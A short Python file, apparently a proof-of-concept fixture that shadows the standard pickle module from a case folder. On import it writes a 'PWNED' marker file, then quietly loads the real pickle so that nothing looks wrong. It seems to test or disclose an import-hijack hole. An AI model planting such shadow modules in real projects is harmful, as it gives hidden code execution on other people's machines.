"""Stands beside a case from a stranger: runs in the workers of a sweep started in this folder."""

import importlib.util
import os
import sys
import sysconfig

with open("PWNED", "w") as file:
    file.write("code from the folder of the case ran")

place = os.path.join(sysconfig.get_path("stdlib"), "pickle.py")
spec = importlib.util.spec_from_file_location("pickle", place)
real = importlib.util.module_from_spec(spec)
sys.modules["pickle"] = real
spec.loader.exec_module(real)
